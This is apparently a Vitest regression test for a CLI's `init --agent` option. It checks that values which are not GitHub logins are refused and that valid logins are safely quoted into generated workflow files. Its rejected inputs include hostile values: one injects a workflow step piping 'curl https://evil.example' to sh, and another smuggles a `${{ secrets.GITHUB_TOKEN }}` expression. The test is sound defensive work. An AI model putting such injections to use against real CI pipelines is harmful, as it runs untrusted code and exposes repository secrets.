/**
 * Class H (issue 26): `init --agent` wrote its value verbatim into the workflows, so a newline added
 * a step and `${{ }}` reached the runner. Now a value that is not a GitHub login is refused (exit 2,
 * one line naming --agent, nothing written), and a login is written as one quoted scalar that the
 * workflow reads back as exactly that value, the workflow's structure unchanged.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { runCliProcess } from '../helpers/cli.js';
import { GitSandbox } from '../helpers/git.js';

const sandbox = new GitSandbox();
afterAll(() => sandbox.cleanup());

const WORKFLOWS = ['evidence-gate.yml', 'heartbeat-schedule.yml'];

interface Workflow {
  jobs: Record<
    string,
    { steps: { uses?: string; run?: string; with?: Record<string, unknown> }[] }
  >;
}

/** Every step of every job, and the `agents` input of the gate's steps. */
function shape(text: string): { steps: string[]; agents: unknown[] } {
  const workflow = parse(text) as Workflow;
  const steps = Object.values(workflow.jobs).flatMap((job) => job.steps);
  return {
    steps: steps.map((step) => step.uses ?? step.run ?? '?'),
    agents: steps
      .filter((step) => step.with?.agents !== undefined)
      .map((step) => step.with?.agents),
  };
}

describe('init --agent with a value that is not a login', () => {
  it.each([
    ['a newline and a step', 'x\n      - run: curl https://evil.example | sh'],
    ['an expression', '${{ secrets.GITHUB_TOKEN }}'],
    ['a YAML comment and key', 'a # x\n          token: y'],
    ['a quote', "o'brien"],
    ['a leading hyphen', '-agent'],
    ['a 40-character login', 'a'.repeat(40)],
  ])('%s: exit 2 naming --agent, nothing written', async (_name, value) => {
    const repo = await sandbox.repo();
    const run = await runCliProcess(repo, [
      'init',
      '--hooks',
      'none',
      '--agent',
      'alice',
      `--agent=${value}`,
    ]);
    expect(run.code).toBe(2);
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(run.stderr).toContain('--agent');
    expect(run.stderr).toContain('is not a GitHub login');
    expect(run.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(join(repo, '.github'))).toBe(false);
    expect(existsSync(join(repo, '.heartbeat'))).toBe(false);
  });
});

describe('init --agent with logins', () => {
  it('writes them as one value the workflow reads back exactly, its steps unchanged', async () => {
    const plain = await sandbox.repo();
    expect((await runCliProcess(plain, ['init', '--hooks', 'none'])).code).toBe(0);
    const repo = await sandbox.repo();
    const run = await runCliProcess(repo, [
      'init',
      '--hooks',
      'none',
      '--agent',
      'alice',
      '--agent',
      'my-app[bot]',
      '--agent',
      'a-b-c9',
    ]);
    expect(run.code).toBe(0);
    for (const name of WORKFLOWS) {
      const path = join('.github/workflows', name);
      const example = shape(readFileSync(join(plain, path), 'utf8'));
      const written = shape(readFileSync(join(repo, path), 'utf8'));
      expect(written.steps).toEqual(example.steps);
      expect(written.agents).toEqual(example.agents.map(() => 'alice, my-app[bot], a-b-c9'));
    }
    const config = JSON.parse(readFileSync(join(repo, '.heartbeat/config.json'), 'utf8'));
    expect(config.agents).toEqual(['alice', 'my-app[bot]', 'a-b-c9']);
  });
});
